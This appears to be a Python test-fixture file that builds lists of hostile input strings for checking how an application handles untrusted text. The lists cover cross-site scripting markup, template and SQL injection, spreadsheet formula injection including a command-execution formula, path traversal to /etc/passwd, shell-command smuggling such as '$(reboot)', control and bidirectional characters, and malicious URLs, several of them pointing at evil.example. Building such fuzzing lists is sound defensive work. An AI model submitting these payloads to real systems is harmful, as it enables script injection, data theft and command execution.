"""Three hundred hostile texts: markup, formulas, invisible characters, too long, bad addresses."""

MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "</textarea><script>1</script>",
    "</title><script>1</script>", "<iframe src=javascript:alert(1)>", "<a href='javascript:1'>",
    "<style>*{display:none}</style>", "<!-- comment", "]]><x>", "<form action=//evil.example>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "{{ 7*7 }}", "{% raw %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "&lt;script&gt;", "&#60;script&#62;", "<ScRiPt >1</sCrIpT>",
    "<math><mi//xlink:href='data:x,<script>1</script>'>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<b>bold</b>", "\\u003cscript\\u003e", "%3Cscript%3E",
    "<option selected>", "</select><b>", "</datalist><b>", "`-alert(1)-`",
    *(f"<{tag} {way}>" for tag in ("img src=x", "svg", "video src=x", "body", "marquee", "select")
      for way in ("onerror=alert(1)", "onload=alert(1)", "onmouseover=alert(1)", "onfocus=alert(1)",
                  "onanimationstart=alert(1)", "style=position:fixed;inset:0")),
    *(f"{end}{start}"
      for end in ("'>", "\">", "--></", "</option>", "</h1>", "</li></ul>", "</time>", "</dl>")
      for start in ("<script src=//evil.example>", "<object data=//evil.example>", "<q id=main>",
                    "<link rel=stylesheet href=//evil.example>", "<embed src=//evil.example>",
                    "<noscript><p>", "<template><script>1</script>")),
]  # fmt: skip
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\")",
            "=cmd|'/c'!A",
            "\t=1+1", "=IMPORTXML(A1)", "1;DROP TABLE person", "' OR 1=1 --", "\"; DELETE FROM x;",
            "Robert'); --", "%s%s%s%n", "../../etc/passwd", "..\\..\\x", "|| sleep 9", "$(reboot)",
            "admin'/*", "%00", "\\0"]  # fmt: skip
CONTROL = [
    f"a{chr(code)}b"
    for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))
    if chr(code) not in "\t\n\r"
]
BIDI = [f"a{mark}b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
LONG = ["x" * 20_001, "<b>" * 7_000, "é" * 25_000, "word " * 5_000, "x\n" * 11_000]
ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>",
             "//evil.example/x", "vbscript:1", "file:///etc/passwd", "http://", "https://",
             "http:///x", "http:evil.example", "https://[::1", "https://user:pw@evil.example/",
             "https://evil.example/a b", "ftp://evil.example/", "\\\\evil.example\\x",
             "https:\\\\evil.example", "mailto:x@evil.example", "about:blank", "blob:https://x.y/1",
             "https://evil.example:99999/", "https://evil.example/<script>"]  # fmt: skip
ADDRESSES += [
    f"{scheme}{rest}"
    for scheme in (
        "javascript",
        "data",
        "vbscript",
        "file",
        "gopher",
        "jar",
        "ws",
        "feed",
        "tel",
        "irc",
    )
    for rest in (":evil", "://evil.example/", ":%0aalert(1)", " :x", ":\\evil", "&colon;alert(1)")
]
PAYLOADS = [*MARKUP, *FORMULAS, *CONTROL, *BIDI, *LONG, *ADDRESSES]
# These may be written: they are text like any other.
TEXTS = [text for text in MARKUP + FORMULAS if "\t" not in text]


def passages(size: int = 450) -> list[str]:
    """The texts that may be written, joined into as few passages of at most ``size`` characters."""
    found = [""]
    for text in TEXTS:
        if len(found[-1]) + len(text) + 1 > size:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip()
    return found
